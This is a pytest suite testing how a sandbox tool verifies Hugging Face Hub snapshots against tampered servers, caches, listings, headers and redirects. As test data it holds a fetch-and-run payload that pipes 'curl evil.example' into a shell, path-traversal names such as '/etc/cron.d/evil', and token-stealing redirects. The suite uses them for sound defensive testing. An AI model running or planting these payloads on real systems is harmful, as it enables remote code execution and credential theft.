"""A pin is verified, not believed: lying servers, edited caches, broken downloads."""

import contextlib
import json
import os
import traceback
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from envhub_sandbox import errors
from envhub_sandbox.hub.logins import authorization
from envhub_sandbox.hub.reference import HubRef
from envhub_sandbox.hub.snapshot import SnapshotLimits, fetch
from envhub_sandbox.system.folders import remove_tree
from tests.hub.stub_hub import StubHub, StubRepository
from tests.integration.hub.conftest import Fetch

_MIB = 1 << 20
EVIL = b"import os; os.system('curl evil.example | sh')\n"
GOOD = b"def make_env(n_envs=1, use_async_envs=False): ...\n"


@pytest.fixture
def get(get: Fetch, repository: StubRepository) -> Fetch:
    return lambda **rest: get(f"models/org/repo@{repository.commit}", **rest)


def stored_files(store: Path) -> list[Path]:
    return [path for path in store.rglob("*") if path.is_file()]


def requests_for_files(stub_hub: StubHub) -> list[str]:
    return [request for request in stub_hub.requests if "/resolve/" in request]


@pytest.mark.short
@pytest.mark.parametrize(
    ("where", "path", "lie"),
    [
        ("served", "env.py", EVIL),
        ("served", "env.py", EVIL.ljust(len(GOOD))[: len(GOOD)]),
        *(("listed", "env.py", one) for one in ({"size": 3}, {"oid": "a" * 40}, {"size": 10**6})),
        ("truncated", "assets/mesh.bin", None),
    ],
)
def test_other_content_than_the_pinned_commit_is_refused(
    repository: StubRepository, get: Fetch, snapshot_store: Path, where: str, path: str, lie: Any
) -> None:
    lies = getattr(repository, where)
    lies |= {path} if lie is None else {path: lie}
    with pytest.raises(
        (errors.SnapshotIntegrityError, errors.RepositoryUnavailableError)
    ) as caught:
        get()
    assert where != "served" or isinstance(caught.value, errors.SnapshotIntegrityError)
    assert where != "served" or path in str(caught.value)
    assert repository.commit in str(caught.value)
    assert not stored_files(snapshot_store)
    lies.clear()
    assert (get().root / "assets/mesh.bin").read_bytes() == b"m" * 5000


def test_other_commit_than_the_pinned_one_is_refused(stub_hub: StubHub, get: Fetch) -> None:
    pinned = get().commit
    repository = stub_hub.repositories["model", "org/repo"]
    repository.commit, repository.refs = "b" * 40, {"a" * 40}
    ref = HubRef("org/repo", "a" * 40, repo_type="model")
    with pytest.raises(errors.SnapshotIntegrityError, match=r"another commit, b{40}"):
        fetch(ref, token=False, endpoint=stub_hub.endpoint)
    assert pinned != repository.commit


@pytest.mark.parametrize("sha", ["../../../evil", "main", None, "A" * 40])
def test_a_revision_that_is_no_commit_is_refused(stub_hub: StubHub, get: Fetch, sha: Any) -> None:
    """It would be the name of a folder here."""
    stub_hub.fail("/revision/", 200, pieces=lambda: [json.dumps({"sha": sha}).encode()])
    with pytest.raises(errors.RepositoryUnavailableError, match="ValueError"):
        fetch(HubRef.parse("models/org/repo"), token=False, endpoint=stub_hub.endpoint)
    assert not [request for request in stub_hub.requests if "/tree/" in request]


def test_damaged_hub_cache_is_repaired_from_the_hub(
    stub_hub: StubHub, get: Fetch, hub_cache: Path, snapshot_store: Path
) -> None:
    """A blob of the Hub cache that somebody edited is noticed, and fetched again. Until then it
    changes nothing: the store's files are copies."""
    first = get()
    blob = next(path for path in hub_cache.rglob("blobs/*") if path.read_bytes() == GOOD)
    blob.chmod(0o644)
    blob.write_bytes(EVIL)
    assert get() == first
    assert (first.root / "env.py").read_bytes() == GOOD
    remove_tree(snapshot_store)
    before = len(requests_for_files(stub_hub))
    assert ((get().root / "env.py").read_bytes(), blob.read_bytes()) == (GOOD, GOOD)
    again = requests_for_files(stub_hub)[before:]
    assert {request.rpartition("/")[2] for request in again} == {"env.py"}
    assert first.commit == get().commit


def test_hub_cache_may_be_named_from_the_home_folder(
    get: Fetch, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A ``~`` in hub_cache_dir is the home folder, in every version of the client."""
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    get(hub_cache_dir="~/hf")
    assert (tmp_path / "hf" / "models--org--repo").is_dir()
    assert not (tmp_path / "~").exists()


def test_half_deleted_snapshot_is_fetched_again(get: Fetch, stub_hub: StubHub) -> None:
    """Where the Hub gives it; where it does not, the error says both."""
    snapshot = get()
    snapshot.root.chmod(0o755)
    (snapshot.root / "env.py").unlink()
    stub_hub.fail("/api/models/", 403)
    with pytest.raises(errors.RepositoryUnavailableError, match=r"'env\.py' is missing") as caught:
        get()
    assert "That was tried" in str(caught.value)
    stub_hub.faults.clear()
    assert (get().root / "env.py").read_bytes() == GOOD


@pytest.mark.parametrize(
    ("limits", "name"),
    [
        (SnapshotLimits(max_bytes=5001), "max_bytes=5001"),
        (SnapshotLimits(max_file_bytes=4999), "max_file_bytes=4999"),
    ],
)
def test_repository_over_a_limit_is_refused_before_the_download(
    stub_hub: StubHub, get: Fetch, limits: SnapshotLimits, name: str
) -> None:
    """The listing decides; no content is asked for, and the error names the limit. A snapshot that
    came under wider limits does not pass narrower ones, either."""
    for is_stored in (False, True):
        with pytest.raises(errors.SnapshotTooLargeError, match=name):
            get(limits=limits)
        assert is_stored or not requests_for_files(stub_hub)
        get()


def test_endless_listing_is_left_at_the_limit(
    stub_hub: StubHub, get: Fetch, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Pages without files count for no limit of ours, and each names a next one."""

    def pages() -> int:
        return len([request for request in stub_hub.requests if "/tree/" in request])

    repository = stub_hub.add("org/repo", {"env.py": GOOD, **{f"f{n}": b"" for n in range(50)}})
    stub_hub.page_size = 2
    with pytest.raises(errors.SnapshotTooLargeError, match="max_files=5"):
        get(limits=SnapshotLimits(max_files=5))
    assert pages() == 3
    folders = [{"type": "directory", "oid": "d" * 40, "size": 0, "path": "a"}] * 1000
    monkeypatch.setattr("envhub_sandbox.hub.client.MAX_IDLE_PAGES", 20)
    monkeypatch.setattr(repository, "tree", lambda: folders)
    stub_hub.page_size = 1
    with pytest.raises(errors.SnapshotIntegrityError, match="listing does not end"):
        get()
    assert pages() == 3 + 21


@pytest.mark.parametrize("name", ["../evil.py", "/etc/cron.d/evil", "a\x00b"])
def test_hostile_name_is_refused_before_the_download(
    stub_hub: StubHub, repository: StubRepository, get: Fetch, name: str
) -> None:
    """A name that could leave the tree or hide never becomes a path here."""
    repository.files[name] = EVIL
    with pytest.raises(errors.SnapshotError, match="refused"):
        get()
    assert not requests_for_files(stub_hub)


@pytest.mark.parametrize(
    "fields", [{"size": -1}, {"size": "9"}, {"oid": "../x"}, {"path": None}, {"lfs": {"oid": 1}}]
)
def test_malformed_listing_is_refused(
    repository: StubRepository, get: Fetch, fields: dict[str, Any]
) -> None:
    """Fields of the wrong type or form are named, not guessed at."""
    repository.listed["env.py"] = fields
    with pytest.raises(errors.SnapshotIntegrityError, match="listing has an entry"):
        get()


def test_xet_announcement_without_a_xet_service_falls_back_to_http(
    stub_hub: StubHub, repository: StubRepository, get: Fetch
) -> None:
    """A mirror that passes the Xet headers on but not the service still serves over HTTP."""
    repository.head_headers = {
        "X-Xet-Hash": "a" * 64,
        "Link": f'<{stub_hub.endpoint}/api/models/org/repo/xet-read-token/x>; rel="xet-auth"',
        "X-Xet-Refresh-Route": "/api/models/org/repo/xet-read-token/x",
    }
    stub_hub.fail("xet-read-token", 404)
    assert (get().root / "env.py").read_bytes() == GOOD
    from huggingface_hub import constants

    assert constants.HF_HUB_DISABLE_XET is False


def outside(tmp_path: Path) -> list[str]:
    """What was written beside the Hub cache and the store."""
    return sorted(set(os.listdir(tmp_path)) - {"hub-cache", "envhub-cache"})


def test_headers_do_not_write_outside_the_hub_cache(
    stub_hub: StubHub,
    repository: StubRepository,
    get: Fetch,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The Hub client makes paths of ETag and others; the control shows it."""
    repository.head_headers = {"ETag": '"../../../evil"'}
    with pytest.raises(errors.SnapshotIntegrityError, match=r"header ETag .*evil"):
        get()
    assert outside(tmp_path) == []
    monkeypatch.setattr("envhub_sandbox.hub.client.guarded", lambda _: contextlib.nullcontext())
    with contextlib.suppress(errors.SnapshotError):
        get()
    assert "evil" in outside(tmp_path)


def _spaces() -> Iterator[bytes]:
    yield from (b" " * _MIB for _ in range(256))


def _packed() -> Iterator[bytes]:
    packer = zlib.compressobj(9, wbits=31)
    for piece in _spaces():
        if packed := packer.compress(piece):
            yield packed
    yield packer.flush()


@pytest.mark.parametrize(("where", "packed"), [("/revision/", False), ("/tree/", True)])
def test_endless_answer_is_left(stub_hub: StubHub, get: Fetch, where: str, packed: bool) -> None:
    """No more of it is taken than a listing has; the control takes it all."""
    headers = {"Content-Type": "application/json"}
    if packed:
        headers["Content-Encoding"] = "gzip"
    stub_hub.fail(where, 200, headers=headers, pieces=_packed if packed else _spaces)
    with pytest.raises(errors.SnapshotIntegrityError, match="an answer has over"):
        get()
    assert packed or stub_hub.sent < 128 * _MIB
    taken = len(plain_get(f"{stub_hub.endpoint}/api/models/org/repo/tree/main/revision/x"))
    assert taken == 256 * _MIB


def plain_get(url: str) -> bytes:
    from huggingface_hub.utils import get_session

    return bytes(get_session().get(url, timeout=60).content)


@pytest.mark.parametrize("body", [b"[" * 100_000, b"7", b'[{"size": 1' + b"0" * 5000 + b"}]"])
def test_other_json_than_a_listing_is_refused(stub_hub: StubHub, get: Fetch, body: bytes) -> None:
    """Too deep, too large a number, no list: an error of ours that names the repository."""
    stub_hub.fail("/tree/", 200, pieces=lambda: [body])
    with pytest.raises(errors.SnapshotError, match="org/repo"):
        get()


@pytest.mark.parametrize(
    ("where", "location"),
    [
        *((where, "{other}/steal") for where in ("/revision/", "/tree/", "/resolve/")),
        *(("/tree/", location) for location in ("file:///etc/hostname", "ftp://x.invalid/")),
    ],
)
def test_redirect_takes_no_token_along(
    stub_hub: StubHub, get: Fetch, where: str, location: str, snapshot_store: Path
) -> None:
    """Nothing but http is followed, and another host is asked without the token."""
    with StubHub() as other:
        # another name is another host; the same one with another port may be sent the token
        target = location.format(other=other.endpoint.replace("127.0.0.1", "localhost"))
        stub_hub.fail(where, 302, headers={"Location": target})
        with pytest.raises(errors.SnapshotError):
            get(token="hf_secret")
        assert set(other.authorizations) <= {None}
        assert "Bearer hf_secret" in stub_hub.authorizations
    assert not stored_files(snapshot_store)


def test_names_that_differ_little_are_different_files(
    stub_hub: StubHub, repository: StubRepository, get: Fetch
) -> None:
    """Case, Unicode's normal forms, other systems' devices: here they are names like others. The
    listing is asked for once: a second one could have other names than those that were judged."""
    names = ["A.py", "a.py", "\u00e9.txt", "e\u0301.txt", "CON", "aux.txt", "nul", "a b ", "*[x]?"]
    repository.files |= {name: name.encode() for name in names}
    snapshot = get()
    assert {name: (snapshot.root / name).read_bytes() for name in names} == {
        name: name.encode() for name in names
    }
    assert len([request for request in stub_hub.requests if "/tree/" in request]) == 1


@pytest.mark.short
@pytest.mark.parametrize("what", ["/revision/", "/resolve/", "nothing listens"])
def test_secrets_are_in_no_traceback(
    stub_hub: StubHub,
    get: Fetch,
    what: str,
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A token that the Hub echoes, given or stored, and a login in the endpoint's address."""
    soon = {"Retry-After": "0"}  # else huggingface_hub asks again later each time
    endpoint = stub_hub.endpoint.replace("//", "//jane:hunter2@")
    token = "_".join(["hf", "secret"])
    sent = authorization(("jane", "hunter2"))
    echo = {"X-Error-Message": f"no {token}, hunter2, {sent}"}
    stub_hub.fail(what, 500, headers={**echo, **soon})
    monkeypatch.setenv("HF_TOKEN", token)
    if what == "nothing listens":
        stub_hub.stop()
    with caplog.at_level("DEBUG"), pytest.raises(errors.SnapshotError) as caught:
        get(token=None if what == "/resolve/" else token, endpoint=endpoint)
    said = "".join(traceback.format_exception(caught.value)) + repr(caught.value)
    ours = [record for record in caplog.records if record.name.startswith("envhub")]
    said += "".join(record.getMessage() for record in ours)
    assert not [one for one in (token, "hunter2", sent) if one in said]
